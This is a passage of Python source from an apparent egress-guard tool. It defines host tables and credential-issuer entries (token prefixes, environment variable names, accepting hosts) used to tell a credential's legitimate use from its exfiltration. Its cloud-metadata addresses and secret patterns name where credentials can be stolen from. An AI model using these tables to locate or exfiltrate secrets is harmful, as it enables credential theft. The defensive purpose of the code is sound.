"""Hosts: what a destination is, the one table the normaliser and every destination rule read.

Kinds of host (all names lower-case ASCII, as `limen.normalize.net` normalises them; a glob's `*.` covers
every subdomain but not the bare domain):

- `METADATA_IPS`/`METADATA_NAMES` (cloud instance-metadata services), `LOOPBACK_NAMES`/`LOOPBACK_SUFFIXES`,
  `PRIVATE_SUFFIXES` and `IP_IN_NAME_SUFFIXES` (wildcard DNS that hides an address in a name): what
  `limen.normalize.net` classifies a destination by.
- `REGISTRY_HOSTS`: source forges and package registries ordinary development reaches. The default of the
  user's trusted list (`Context.trusted_hosts`, which a policy may replace).
- `ISSUERS`: first-party API issuers. Each names the credential kinds it issues (the kind names of
  `limen.rules.secrets`), the literal prefixes of those credentials, the environment variables that hold them
  by convention, and the hosts that accept them. A credential sent to the API that issued it is its use, not
  its exfiltration (`issuers_for_host`, `issuers_of_credentials`).
- `DOC_HOSTS`: documentation sites. A GET of one that carries nothing is reading, not egress.
- `OFFICIAL_INSTALLERS`: the installer scripts projects publish on their own hosts (rustup, uv, nvm, bun,
  deno, Homebrew...): `is_official_installer(url)`. Piped into a shell they still run code from the network,
  so they ask (AUTH); any other download piped into a shell stays BLOCK.
- `COLLECTION_HOSTS`: services whose purpose is to receive data for someone else to pick up (pastebins, file
  drops, request catchers, tunnels): any request to them can carry data to a stranger.
- `FORGES`: source forges by the word their tools are named with, and the host an `owner`/`repo` pair
  names a repository on (a forge tool that writes there is egress to that repository).
- `PUBLISHING_ENDPOINTS`: endpoints of trusted services that publish what they receive under an account
  (gists, snippets, new repositories): a send there leaves the project however trusted the host.

Look-ups are exact (a name, or a glob with `*.`), never substring: `docs.python.org.evil.com` is nothing.
"""

from __future__ import annotations

import contextlib
import functools
import ipaddress
import os
import re
import time
from collections.abc import Iterable
from dataclasses import dataclass
from fnmatch import fnmatchcase, translate
from functools import lru_cache
from urllib.parse import urlsplit

from limen.model import Action

# --------------------------------------------------------------------------- special addresses and names

# Addresses and names of cloud instance-metadata services (credentials live there).
METADATA_IPS = frozenset(
    {
        ipaddress.ip_address("169.254.169.254"),  # AWS, GCP, Azure, OCI, DigitalOcean
        ipaddress.ip_address("169.254.170.2"),  # AWS ECS task metadata and credentials
        ipaddress.ip_address("100.100.100.200"),  # Alibaba Cloud
        ipaddress.ip_address("192.0.0.192"),  # Oracle Cloud (legacy)
        ipaddress.ip_address("fd00:ec2::254"),  # AWS IMDS over IPv6
    }
)
METADATA_NAMES = frozenset(
    {"metadata.google.internal", "metadata.goog", "metadata", "instance-data", "instance-data.ec2.internal"}
)
# (`.svc`: a Kubernetes service's name within its cluster, `prometheus.monitoring.svc`)
PRIVATE_SUFFIXES = (".internal", ".local", ".lan", ".home.arpa", ".intranet", ".corp", ".svc")
# The internet's shared resolvers and clocks: a configuration that points a system's name look-ups or its time
# (or a signature's timestamp) at them sends nothing of the system's own (no logs, no flows, no data)
PUBLIC_RESOLVERS_AND_CLOCKS = frozenset(
    {
        *("8.8.8.8", "8.8.4.4", "1.1.1.1", "1.0.0.1", "9.9.9.9", "149.112.112.112", "208.67.222.222"),
        *("208.67.220.220", "pool.ntp.org", "time.google.com", "time.cloudflare.com", "time.apple.com"),
        *("time.windows.com", "time.nist.gov", "time.aws.com", "ntp.ubuntu.com"),
        # the public timestamp authorities code signing asks to date a signature (RFC 3161): they are sent a
        # hash, nothing of the build's own
        *("timestamp.digicert.com", "timestamp.sectigo.com", "timestamp.comodoca.com", "ts.ssl.com"),
        *("timestamp.globalsign.com", "rfc3161timestamp.globalsign.com", "timestamp.entrust.net"),
        *(
            "time.certum.pl",
            "freetsa.org",
            "timestamp.apple.com",
            "tsa.starfieldtech.com",
            "timestamp.acs.microsoft.com",
        ),
    }
)


def resolver_or_clock(host: str) -> bool:
    """A public resolver or time server (`PUBLIC_RESOLVERS_AND_CLOCKS`), or one of the NTP pool's
    (`0.europe.pool.ntp.org`)."""
    return host in PUBLIC_RESOLVERS_AND_CLOCKS or host.endswith(".pool.ntp.org")


# Wildcard-DNS services that resolve `<ip>.nip.io` to that IP: a way to hide an address in a name.
IP_IN_NAME_SUFFIXES = (".nip.io", ".sslip.io", ".xip.io", ".traefik.me", ".backname.io")
LOOPBACK_NAMES = frozenset(
    {"localhost", "localhost.localdomain", "ip6-localhost", "ip6-loopback"}
    # a container's name for the machine it runs on (Docker Desktop, Podman): this machine, seen from inside
    | {"host.docker.internal", "gateway.docker.internal", "host.containers.internal"}
)
# (`.test`, reserved by RFC 6761, is no one's public name: local development servers answer it, as Laravel
# Valet and Herd resolve it to this machine; DDEV's `.ddev.site` and Lando's `.lndo.site` are public names
# whose every address is 127.0.0.1)
LOOPBACK_SUFFIXES = (".localhost", ".localtest.me", ".lvh.me", ".test", ".ddev.site", ".lndo.site")
# Domains reserved for examples and tests (RFC 2606, RFC 6761) and local names: an address there is a
# sample's or this machine's, no one's mailbox
PLACEHOLDER_DOMAINS = re.compile(r"(?i)(?:^|\.)(?:example\.(?:com|org|net)|test|invalid|localhost|local)$")

# URL schemes that reach another machine: a value with one of these is a destination, whatever the argument
# is called; any other `scheme://` (a server's `notes://readme`) is an identifier.
# Object-store URLs name a bucket, not a host: `s3://BUCKET/key` reaches the provider's endpoint for that
# bucket (the virtual-hosted name its SDK connects to), so the bucket is one label of the destination.
# Mail services anyone may sign up to: an account there is a person's own, never an organisation's, so
# access granted to one goes outside whatever company runs the project
FREE_MAIL_DOMAINS = frozenset(
    {
        *("gmail.com", "googlemail.com", "outlook.com", "hotmail.com", "live.com", "msn.com", "yahoo.com"),
        *("ymail.com", "icloud.com", "me.com", "mac.com", "aol.com", "proton.me", "protonmail.com", "pm.me"),
        *(
            "yandex.com",
            "yandex.ru",
            "mail.ru",
            "gmx.com",
            "gmx.de",
            "gmx.net",
            "web.de",
            "zoho.com",
            "qq.com",
        ),
        *("163.com", "126.com", "tutanota.com", "tuta.io", "mailinator.com", "fastmail.com", "hey.com"),
        *("inbox.ru", "bk.ru", "rambler.ru", "seznam.cz", "orange.fr", "free.fr", "libero.it", "naver.com"),
    }
)

OBJECT_STORE_HOSTS: dict[str, str] = {
    "s3": "{}.s3.amazonaws.com",
    "s3a": "{}.s3.amazonaws.com",
    "s3n": "{}.s3.amazonaws.com",
    "gs": "{}.storage.googleapis.com",
    "gcs": "{}.storage.googleapis.com",
}
WEB_SCHEMES = frozenset({"http", "https", "ws", "wss", "ftp", "ftps", "sftp", "smb"})
# Message brokers' addresses (MQTT, AMQP, Kafka, NATS, Redis): what a tool publishes there goes to that host
BROKER_SCHEMES = frozenset({"mqtt", "mqtts", "amqp", "amqps", "kafka", "nats", "tls", "redis", "rediss"})

# --------------------------------------------------------------------------- registries (trusted by default)

REGISTRY_HOSTS: tuple[str, ...] = (
    "github.com",
    "*.github.com",
    "*.githubusercontent.com",
    "gitlab.com",
    "bitbucket.org",
    *("dev.azure.com", "ssh.dev.azure.com", "*.visualstudio.com"),  # Azure DevOps: repositories, pipelines
    *("pkgs.dev.azure.com", "api.nuget.org", "nuget.pkg.github.com"),  # NuGet's feeds
    "pypi.org",
    "files.pythonhosted.org",
    "download.pytorch.org",  # PyTorch's own wheel index (`--index-url .../whl/cpu`)
    "registry.npmjs.org",
    "registry.yarnpkg.com",
    *("jsr.io", "deno.land"),  # Deno's registries
    *("packages.unity.com", "package.openupm.com"),  # Unity's registry and OpenUPM
    # Nix's: flake registries, release channels, and the binary caches most flakes name
    *("flakehub.com", "channels.nixos.org", "releases.nixos.org", "cache.nixos.org", "codeberg.org"),
    *("nix-community.cachix.org", "cache.garnix.io", "devenv.cachix.org"),
    "crates.io",
    "static.crates.io",
    "index.crates.io",  # the sparse index cargo reads
    "proxy.golang.org",
    "sum.golang.org",
    "rubygems.org",
    "repo.maven.apache.org",
    "repo1.maven.org",
    "plugins.gradle.org",
    "repo.spring.io",  # Spring's own repository (milestones and snapshots of its projects)
    # certificate authorities' ACME endpoints: a client sends them certificate requests and proofs only
    *("acme-v02.api.letsencrypt.org", "acme-staging-v02.api.letsencrypt.org", "acme.zerossl.com"),
    # Helm chart repositories of the projects that publish the charts most clusters install
    *("charts.bitnami.com", "charts.jetstack.io", "helm.releases.hashicorp.com", "charts.helm.sh"),
    *("prometheus-community.github.io", "grafana.github.io", "kubernetes.github.io", "argoproj.github.io"),
    *("kubernetes-sigs.github.io", "aws.github.io", "charts.external-secrets.io"),
    *("helm.datadoghq.com", "helm.cilium.io", "helm.elastic.co", "helm.traefik.io", "charts.gitlab.io"),
    *("kedacore.github.io", "open-telemetry.github.io", "istio-release.storage.googleapis.com"),
    # R's and Julia's
    *("cloud.r-project.org", "cran.r-project.org", "cran.rstudio.com", "pkg.julialang.org"),
    *("packagemanager.posit.co", "p3m.dev", "bioconductor.org", "r-universe.dev"),
    "deb.debian.org",
    "docs.python.org",
    "localhost",
)

# --------------------------------------------------------------------------- container images

# Where an image reference without a registry host goes (`docker push me/app` is Docker Hub's).
DEFAULT_IMAGE_REGISTRY = "registry-1.docker.io"
# URL schemes whose "host" is the first part of a container image reference (`docker://ubuntu:22.04`,
# apptainer's and skopeo's spelling): the machine reached is the image's registry (`image_registry`)
IMAGE_SCHEMES = frozenset({"docker", "oci", "oras"})


def image_registry(reference: str) -> str:
    """The registry host of a container image reference: its first component when that names a host
    (`ghcr.io/me/app`, `localhost:5000/app`, `10.0.0.5/app`), else Docker Hub. "" for no reference."""
    reference = reference.strip().removeprefix("docker://")
    if not reference or reference.startswith(("-", "/", ".")):
        return ""
    first, slash, _ = reference.partition("/")
    if slash and ("." in first or ":" in first or first == "localhost"):
        return first.split(":", 1)[0].lower()
    return DEFAULT_IMAGE_REGISTRY


def public_image_registry(host: str) -> bool:
    """A registry that serves the public's images (Docker Hub, Quay, GHCR, the clouds' public ones)."""
    from limen.facts.packages import IMAGE_REGISTRIES

    return host == DEFAULT_IMAGE_REGISTRY or host in IMAGE_REGISTRIES


# Forges' container registries: an image under the project's own owner there (`ghcr.io/OWNER/app`) is the
# project's own, as its origin is
FORGE_REGISTRIES: dict[str, str] = {
    "ghcr.io": "github.com",
    "docker.pkg.github.com": "github.com",
    "registry.gitlab.com": "gitlab.com",
}


# Registries with a host or a path per customer account (Azure's `NAME.azurecr.io`, JFrog's `NAME.jfrog.io`,
# ECR's `ACCOUNT.dkr.ecr.REGION.amazonaws.com`, Artifact Registry's `REGION-docker.pkg.dev/PROJECT/...`)
_ACCOUNT_REGISTRY = re.compile(
    r"^(?:([a-z0-9][a-z0-9-]{3,62})\.(?:azurecr\.io|jfrog\.io)|(\d{12})\.dkr\.ecr\.[\w.-]+\.amazonaws\.com(?:\.cn)?"
    r"|[a-z0-9-]+-docker\.pkg\.dev)$"
)


def own_image(reference: str, cwd: str) -> bool:
    """The image is the project's own: in the registry of the forge that hosts the project's origin, under
    the same owner (`ghcr.io/acme/web` for a project whose origin is github.com/acme/...), or in a registry
    account the project's committed files name (`acmeacr.azurecr.io/api` where its CI pushes there)."""
    host = image_registry(reference)
    parts = reference.strip().removeprefix("docker://").split("/")
    account = _ACCOUNT_REGISTRY.match(host)
    if account is not None:
        name = account.group(1) or account.group(2) or (parts[1] if len(parts) > 2 else "")
        return bool(name) and committed_name(cwd, name)
    own = project_repository(cwd)
    if own is None or FORGE_REGISTRIES.get(host) != own[0] or len(parts) < 3:
        return False
    return parts[1].lower() == own[1].split("/", 1)[0].lower()


def outside_publisher(reference: str, cwd: str) -> str:
    """Who publishes an image a cluster is given to run, when that is no one the project is or knows: ""
    for the project's own (`own_image`, a registry under its domain or a private name), Docker Hub's
    official images and the publishers `facts.packages` lists; else the publisher (`metal3d`,
    `registry.example-cache.io`)."""
    from limen.facts.packages import IMAGE_PUBLISHERS, IMAGE_REGISTRIES, SHARED_IMAGE_REGISTRIES

    bare = reference.strip().strip("\"'").removeprefix("docker://")
    if not bare or any(c in bare for c in "${}") or own_image(bare, cwd):
        return ""
    host = image_registry(bare)
    path = bare.split("/", 1)[1] if host != DEFAULT_IMAGE_REGISTRY else bare
    if host in ("docker.io", "index.docker.io", DEFAULT_IMAGE_REGISTRY):
        path = path.removeprefix("docker.io/").removeprefix("index.docker.io/")
        owner = path.split("/", 1)[0] if "/" in path else "library"
        return "" if owner.lower() in IMAGE_PUBLISHERS else owner
    if host in SHARED_IMAGE_REGISTRIES:
        owner = path.split("/", 1)[0].lower()
        return "" if owner in IMAGE_PUBLISHERS else f"{host}/{owner}"
    private = host.endswith(PRIVATE_SUFFIXES) or host == "localhost" or PRIVATE_ADDRESS.match(host)
    if host in IMAGE_REGISTRIES or private or project_domain(host, cwd):
        return ""
    return host


# An IPv4 address (or the start of one: `10.0.4.`) in a private, loopback or link-local range
PRIVATE_ADDRESS = re.compile(r"^(?:10|127|192\.168|172\.(?:1[6-9]|2\d|3[01])|169\.254|0)\.[\d.]*$")


# --------------------------------------------------------------------------- first-party API issuers


@dataclass(frozen=True, slots=True)
class Issuer:
    """One service that issues credentials, and where those credentials are meant to go."""

    name: str
    kinds: tuple[str, ...]  # `limen.rules.secrets` kind names of what it issues
    prefixes: tuple[str, ...]  # literal starts of its credentials
    env: tuple[str, ...]  # environment variables that hold them by convention
    hosts: tuple[str, ...]  # hosts that accept them (globs with `*.`)
    # its command-line clients, which carry its credential themselves (`az rest --url https://graph...`)
    clis: tuple[str, ...] = ()


# Services organisations run on their own machines and domains, whose credentials their own instance issues
SELF_HOSTED = frozenset(
    {"gitlab", "grafana", "sentry", "artifactory", "bitbucket", "atlassian", "hashicorp", "sonar"}
)


def self_hosted_at(issuer: str, host: str) -> bool:
    """`host` may be an organisation's own instance of `issuer`'s service (`gitlab.acmetel.net`,
    `grafana.noc.acme.io`): the service is one organisations run themselves (`SELF_HOSTED`) and its name is
    a label below the host's registered domain."""
    below = host.lower().rstrip(".").removesuffix(registered_domain(host)).split(".")
    return issuer in SELF_HOSTED and issuer in below


ISSUERS: tuple[Issuer, ...] = (
    Issuer(
        "github",
        ("github-token",),
        ("ghp_", "gho_", "ghu_", "ghs_", "ghr_", "github_pat_"),
        ("GITHUB_TOKEN", "GH_TOKEN", "GITHUB_PAT", "GH_ENTERPRISE_TOKEN", "GITHUB_ENTERPRISE_TOKEN"),
        ("github.com", "api.github.com", "*.github.com", "*.githubusercontent.com"),
        ("gh",),
    ),
    Issuer(
        "gitlab",
        ("gitlab-token",),
        ("glpat-", "gldt-", "glptt-", "glrt-"),
        ("GITLAB_TOKEN", "GITLAB_PRIVATE_TOKEN", "CI_JOB_TOKEN", "GL_TOKEN"),
        ("gitlab.com", "api.gitlab.com", "*.gitlab.com"),
    ),
    Issuer(
        "anthropic",
        ("anthropic-key",),
        ("sk-ant-",),
        ("ANTHROPIC_API_KEY", "ANTHROPIC_AUTH_TOKEN", "CLAUDE_API_KEY"),
        ("api.anthropic.com",),
    ),
    Issuer(
        "openai",
        ("openai-key",),
        ("sk-proj-", "sk-svcacct-", "sk-admin-", "sk-"),
        ("OPENAI_API_KEY", "OPENAI_ADMIN_KEY"),
        ("api.openai.com",),
    ),
    Issuer(
        "aws",
        ("aws-access-key",),
        ("AKIA", "ASIA"),
        ("AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY", "AWS_SESSION_TOKEN"),
        ("*.amazonaws.com", "*.amazonaws.com.cn"),
        ("aws", "awscurl"),  # (awscurl signs its request with the AWS credentials, as the CLI does)
    ),
    # Apple's developer APIs: App Store Connect's (its JWTs signed with the team's key), push notifications
    # (a provider token), notarisation and the Apple ID's app-specific passwords fastlane signs in with
    Issuer(
        "apple",
        (),
        (),
        (
            *(
                "ASC_JWT",
                "ASC_TOKEN",
                "APP_STORE_CONNECT_API_KEY",
                "APP_STORE_CONNECT_API_KEY_KEY",
                "APNS_JWT",
            ),
            *("APNS_TOKEN", "APNS_AUTH_KEY", "FASTLANE_SESSION", "FASTLANE_PASSWORD", "APPLE_ID_PASSWORD"),
            *("FASTLANE_APPLE_APPLICATION_SPECIFIC_PASSWORD", "APP_SPECIFIC_PASSWORD", "NOTARY_PASSWORD"),
        ),
        (
            *("api.appstoreconnect.apple.com", "appstoreconnect.apple.com", "api.push.apple.com"),
            *("api.sandbox.push.apple.com", "idmsa.apple.com"),
        ),
    ),
    Issuer(
        "stripe",
        ("stripe-key",),
        ("sk_live_", "sk_test_", "rk_live_", "rk_test_"),
        ("STRIPE_SECRET_KEY", "STRIPE_API_KEY"),
        ("api.stripe.com", "files.stripe.com"),
    ),
    # other payment services' APIs, their sandboxes and test endpoints included
    Issuer(
        "klarna",
        (),
        (),
        ("KLARNA_USERNAME", "KLARNA_PASSWORD", "KLARNA_API_KEY"),
        (
            *("api.klarna.com", "api-na.klarna.com", "api-oc.klarna.com", "api.playground.klarna.com"),
            *("api-na.playground.klarna.com", "api-oc.playground.klarna.com"),
        ),
    ),
    Issuer(
        "braintree",
        (),
        (),
        ("BRAINTREE_PRIVATE_KEY", "BRAINTREE_PUBLIC_KEY", "BRAINTREE_MERCHANT_ID"),
        (
            *("api.braintreegateway.com", "api.sandbox.braintreegateway.com", "payments.braintree-api.com"),
            "payments.sandbox.braintree-api.com",
        ),
    ),
    Issuer(
        "plaid",
        (),
        (),
        ("PLAID_CLIENT_ID", "PLAID_SECRET"),
        ("production.plaid.com", "sandbox.plaid.com", "development.plaid.com"),
    ),
    Issuer(
        "adyen",
        (),
        (),
        ("ADYEN_API_KEY",),
        ("checkout-test.adyen.com", "management-test.adyen.com", "pal-test.adyen.com", "*.adyenpayments.com"),
    ),
    Issuer(
        "slack",
        ("slack-token",),
        ("xoxb-", "xoxp-", "xoxa-", "xoxs-", "xoxe-", "xapp-"),
        ("SLACK_BOT_TOKEN", "SLACK_TOKEN", "SLACK_USER_TOKEN", "SLACK_APP_TOKEN"),
        ("slack.com", "*.slack.com"),
    ),
    Issuer(
        "slack-webhook",
        ("slack-webhook",),
        ("https://hooks.slack.com/",),
        ("SLACK_WEBHOOK_URL", "SLACK_WEBHOOK"),
        ("hooks.slack.com",),
    ),
    Issuer(
        "npm",
        ("npm-token",),
        ("npm_",),
        ("NPM_TOKEN", "NODE_AUTH_TOKEN", "NPM_AUTH_TOKEN"),
        ("registry.npmjs.org",),
    ),
    Issuer(
        "pypi",
        ("pypi-token",),
        ("pypi-",),
        ("PYPI_TOKEN", "PYPI_API_TOKEN", "TWINE_PASSWORD", "UV_PUBLISH_TOKEN", "POETRY_PYPI_TOKEN_PYPI"),
        ("pypi.org", "upload.pypi.org", "test.pypi.org"),
    ),
    Issuer(
        "huggingface",
        ("huggingface-token",),
        ("hf_",),
        ("HF_TOKEN", "HUGGING_FACE_HUB_TOKEN", "HUGGINGFACE_TOKEN"),
        ("huggingface.co", "*.huggingface.co"),
    ),
    Issuer("wandb", (), (), ("WANDB_API_KEY",), ("api.wandb.ai",), clis=("wandb",)),
    # business SaaS a backend integrates: its CRM, its accounting, its Salesforce org (the `sf` CLI's logins)
    Issuer(
        "hubspot",
        (),
        ("pat-na1-", "pat-eu1-"),
        ("HUBSPOT_ACCESS_TOKEN",),
        ("api.hubapi.com", "api.hubspot.com"),
    ),
    Issuer(
        "quickbooks",
        (),
        (),
        ("QUICKBOOKS_ACCESS_TOKEN", "QBO_ACCESS_TOKEN"),
        ("*.api.intuit.com", "oauth.platform.intuit.com"),
    ),
    Issuer(
        "salesforce",
        (),
        (),
        ("SF_ACCESS_TOKEN", "SFDX_ACCESS_TOKEN", "SALESFORCE_ACCESS_TOKEN"),
        (
            "login.salesforce.com",
            "test.salesforce.com",
            "*.my.salesforce.com",
            "*.salesforce.com",
            "*.force.com",
        ),
        clis=("sf", "sfdx"),
    ),
    # blockchain node providers (the key is part of the RPC URL) and block explorers' APIs
    Issuer("alchemy", (), (), ("ALCHEMY_API_KEY", "ALCHEMY_KEY"), ("*.g.alchemy.com", "*.alchemyapi.io")),
    Issuer("infura", (), (), ("INFURA_API_KEY", "INFURA_PROJECT_ID", "INFURA_KEY"), ("*.infura.io",)),
    Issuer(
        "etherscan",
        (),
        (),
        (
            "ETHERSCAN_API_KEY",
            "BSCSCAN_API_KEY",
            "POLYGONSCAN_API_KEY",
            "ARBISCAN_API_KEY",
            "BASESCAN_API_KEY",
        ),
        (
            *("api.etherscan.io", "api-*.etherscan.io", "api.bscscan.com", "api.polygonscan.com"),
            *("api.arbiscan.io", "api.basescan.org"),
        ),
    ),
    # Hex, Elixir's and Erlang's package registry
    Issuer("hex", (), (), ("HEX_API_KEY",), ("hex.pm", "repo.hex.pm")),
    Issuer(
        "google",
        ("google-api-key",),
        ("AIza",),
        ("GOOGLE_API_KEY", "GEMINI_API_KEY"),
        ("*.googleapis.com",),
        ("gcloud",),
    ),
    Issuer(
        "azure",
        ("azure-storage-key",),
        (),
        ("AZURE_CLIENT_SECRET", "ARM_CLIENT_SECRET", "AZURE_STORAGE_KEY", "AZURE_STORAGE_CONNECTION_STRING"),
        (
            *("management.azure.com", "graph.microsoft.com", "login.microsoftonline.com"),
            "*.vault.azure.net",
            *("*.blob.core.windows.net", "*.database.windows.net", "dev.azure.com", "*.dev.azure.com"),
        ),
        ("az", "azd"),
    ),
    Issuer(
        "google-oauth",
        ("google-oauth-token",),
        ("ya29.",),
        ("GOOGLE_OAUTH_ACCESS_TOKEN",),
        ("*.googleapis.com", "*.google.com"),
    ),
    Issuer(
        "google-oauth-client",
        ("google-oauth-client-secret",),
        ("GOCSPX-",),
        ("GOOGLE_CLIENT_SECRET",),
        ("oauth2.googleapis.com", "accounts.google.com"),
    ),
    Issuer(
        "sendgrid",
        ("sendgrid-key",),
        ("SG.",),
        ("SENDGRID_API_KEY",),
        ("api.sendgrid.com",),
    ),
    Issuer(
        "twilio",
        ("twilio-key",),
        (),
        ("TWILIO_AUTH_TOKEN", "TWILIO_API_KEY", "TWILIO_API_SECRET"),
        ("api.twilio.com", "*.twilio.com"),
    ),
    Issuer(
        "mailgun",
        ("mailgun-key",),
        (),
        ("MAILGUN_API_KEY",),
        ("api.mailgun.net", "api.eu.mailgun.net"),
    ),
    Issuer(
        "digitalocean",
        ("digitalocean-token",),
        ("dop_v1_",),
        ("DIGITALOCEAN_TOKEN", "DIGITALOCEAN_ACCESS_TOKEN", "DO_TOKEN"),
        ("api.digitalocean.com",),
    ),
    Issuer(
        "linear",
        ("linear-key",),
        ("lin_api_",),
        ("LINEAR_API_KEY",),
        ("api.linear.app",),
    ),
    Issuer(
        "doppler",
        ("doppler-token",),
        ("dp.pt.", "dp.st."),
        ("DOPPLER_TOKEN",),
        ("api.doppler.com",),
    ),
    Issuer(
        "pulumi",
        ("pulumi-token",),
        ("pul-",),
        ("PULUMI_ACCESS_TOKEN",),
        ("api.pulumi.com",),
    ),
    Issuer(
        "sentry",
        ("sentry-token",),
        ("sntrys_", "sntryu_"),
        ("SENTRY_AUTH_TOKEN",),
        ("sentry.io", "*.sentry.io"),
    ),
    Issuer(
        "shopify",
        ("shopify-token",),
        ("shpat_", "shpca_", "shppa_", "shpss_"),
        ("SHOPIFY_ACCESS_TOKEN", "SHOPIFY_API_SECRET"),
        ("*.myshopify.com",),
    ),
    Issuer(
        "bitbucket",
        (),
        ("ATBB",),  # (app passwords)
        ("BITBUCKET_APP_PASSWORD", "BITBUCKET_TOKEN", "BITBUCKET_ACCESS_TOKEN"),
        ("api.bitbucket.org", "bitbucket.org"),
    ),
    # health records: the EHR vendors' FHIR sandboxes and their authorisation servers
    Issuer("epic", (), (), ("EPIC_CLIENT_ID", "EPIC_CLIENT_SECRET"), ("fhir.epic.com", "open.epic.com")),
    Issuer(
        "cerner",
        (),
        (),
        ("CERNER_CLIENT_ID", "CERNER_CLIENT_SECRET"),
        (
            "authorization.cerner.com",
            "fhir-ehr.cerner.com",
            "fhir-ehr-code.cerner.com",
            "fhir-open.cerner.com",
        ),
    ),
    Issuer(
        "atlassian",
        ("atlassian-token",),
        ("ATATT3",),
        ("JIRA_API_TOKEN", "JIRA_TOKEN", "CONFLUENCE_API_TOKEN", "ATLASSIAN_API_TOKEN"),
        ("*.atlassian.net", "api.atlassian.com"),
    ),
    Issuer(
        "notion",
        ("notion-token",),
        ("ntn_", "secret_"),
        ("NOTION_TOKEN", "NOTION_API_KEY"),
        ("api.notion.com",),
    ),
    Issuer(
        "postman",
        ("postman-key",),
        ("PMAK-",),
        ("POSTMAN_API_KEY",),
        ("api.getpostman.com",),
    ),
    Issuer(
        "grafana",
        ("grafana-token",),
        ("glc_", "glsa_"),
        ("GRAFANA_TOKEN", "GRAFANA_API_KEY"),
        ("*.grafana.net", "grafana.com"),
    ),
    Issuer(
        "hashicorp",
        ("hashicorp-token",),
        ("atlasv1",),
        ("TFE_TOKEN", "TF_TOKEN_app_terraform_io"),
        ("app.terraform.io",),
    ),
    Issuer(
        "heroku",
        ("heroku-key",),
        ("HRKU-",),
        ("HEROKU_API_KEY",),
        ("api.heroku.com",),
    ),
    Issuer(
        "confluent",
        (),
        (),
        (
            *("CONFLUENT_CLOUD_API_KEY", "CONFLUENT_CLOUD_API_SECRET", "KAFKA_API_KEY", "KAFKA_API_SECRET"),
            *("SCHEMA_REGISTRY_KEY", "SCHEMA_REGISTRY_SECRET", "SCHEMA_REGISTRY_API_KEY"),
            "SCHEMA_REGISTRY_API_SECRET",
        ),
        ("*.confluent.cloud", "api.confluent.cloud"),
    ),
    Issuer(
        "databricks",
        ("databricks-token",),
        ("dapi",),
        ("DATABRICKS_TOKEN",),
        ("*.cloud.databricks.com", "*.azuredatabricks.net", "*.gcp.databricks.com"),
    ),
    Issuer(
        "newrelic",
        ("newrelic-key",),
        ("NRAK-",),
        ("NEW_RELIC_API_KEY", "NEW_RELIC_LICENSE_KEY"),
        ("*.newrelic.com", "*.nr-data.net"),
    ),
    Issuer(
        "dynatrace",
        ("dynatrace-token",),
        ("dt0c01.",),
        ("DT_API_TOKEN", "DYNATRACE_API_TOKEN"),
        ("*.live.dynatrace.com", "*.apps.dynatrace.com"),
    ),
    Issuer(
        "rubygems",
        ("rubygems-token",),
        ("rubygems_",),
        ("GEM_HOST_API_KEY", "RUBYGEMS_API_KEY"),
        ("rubygems.org",),
    ),
    Issuer(
        "mapbox",
        ("mapbox-secret-token",),
        ("sk.eyJ",),
        ("MAPBOX_ACCESS_TOKEN", "MAPBOX_SECRET_TOKEN"),
        ("api.mapbox.com",),
    ),
    Issuer(
        "groq",
        ("groq-key",),
        ("gsk_",),
        ("GROQ_API_KEY",),
        ("api.groq.com",),
    ),
    Issuer(
        "replicate",
        ("replicate-token",),
        ("r8_",),
        ("REPLICATE_API_TOKEN",),
        ("api.replicate.com",),
    ),
    Issuer(
        "xai",
        ("xai-key",),
        ("xai-",),
        ("XAI_API_KEY",),
        ("api.x.ai",),
    ),
    Issuer(
        "langsmith",
        ("langsmith-key",),
        ("lsv2_",),
        ("LANGSMITH_API_KEY", "LANGCHAIN_API_KEY"),
        ("api.smith.langchain.com", "*.smith.langchain.com"),
    ),
    Issuer(
        "perplexity",
        ("perplexity-key",),
        ("pplx-",),
        ("PERPLEXITY_API_KEY", "PPLX_API_KEY"),
        ("api.perplexity.ai",),
    ),
    Issuer("ansible-galaxy", (), (), ("GALAXY_API_KEY", "ANSIBLE_GALAXY_TOKEN"), ("galaxy.ansible.com",)),
    Issuer("cachix", (), (), ("CACHIX_AUTH_TOKEN", "CACHIX_SIGNING_KEY"), ("app.cachix.org", "*.cachix.org")),
    Issuer(
        "supabase",
        ("supabase-token",),
        ("sbp_",),
        ("SUPABASE_ACCESS_TOKEN", "SUPABASE_SERVICE_ROLE_KEY"),
        ("api.supabase.com", "*.supabase.co"),
    ),
    Issuer(
        "tailscale",
        ("tailscale-key",),
        ("tskey-",),
        ("TS_AUTHKEY", "TAILSCALE_API_KEY"),
        ("api.tailscale.com", "login.tailscale.com"),
    ),
    Issuer(
        "buildkite",
        ("buildkite-token",),
        ("bkua_",),
        ("BUILDKITE_API_TOKEN",),
        ("api.buildkite.com",),
    ),
    Issuer(
        "circleci",
        ("circleci-token",),
        ("CCIPAT_",),
        ("CIRCLECI_TOKEN", "CIRCLE_TOKEN"),
        ("circleci.com", "*.circleci.com"),
    ),
    Issuer(
        "cloudflare",
        ("cloudflare-origin-ca-key",),
        ("v1.0-",),
        ("CLOUDFLARE_API_TOKEN", "CF_API_TOKEN", "CLOUDFLARE_API_KEY"),
        ("api.cloudflare.com",),
    ),
    Issuer(
        "artifactory",
        ("artifactory-token",),
        (),
        ("ARTIFACTORY_TOKEN", "JFROG_ACCESS_TOKEN"),
        ("*.jfrog.io",),
    ),
    Issuer(
        "vercel",
        (),
        (),
        ("VERCEL_TOKEN",),
        ("api.vercel.com",),
    ),
    Issuer(
        "netlify",
        (),
        (),
        ("NETLIFY_AUTH_TOKEN",),
        ("api.netlify.com",),
    ),
    Issuer(
        "mistral",
        (),
        (),
        ("MISTRAL_API_KEY",),
        ("api.mistral.ai",),
    ),
    Issuer(
        "cohere",
        (),
        (),
        ("COHERE_API_KEY", "CO_API_KEY"),
        ("api.cohere.com", "api.cohere.ai"),
    ),
    # monitoring and on-call services, called with their own keys by every platform team
    Issuer(
        "datadog",
        (),
        (),
        ("DD_API_KEY", "DD_APP_KEY", "DD_APPLICATION_KEY", "DATADOG_API_KEY", "DATADOG_APP_KEY"),
        ("api.datadoghq.com", "*.datadoghq.com", "api.datadoghq.eu", "*.datadoghq.eu", "*.ddog-gov.com"),
    ),
    # Okta's API tokens (`Authorization: SSWS ...`) go to the organisation's own tenant
    Issuer(
        "okta",
        (),
        (),
        ("OKTA_API_TOKEN", "OKTA_CLIENT_TOKEN", "OKTA_TOKEN", "OKTA_MANAGEMENT_TOKEN"),
        ("*.okta.com", "*.oktapreview.com", "*.okta-emea.com", "*.okta-gov.com"),
        ("okta",),
    ),
    Issuer(
        "pagerduty",
        (),
        (),
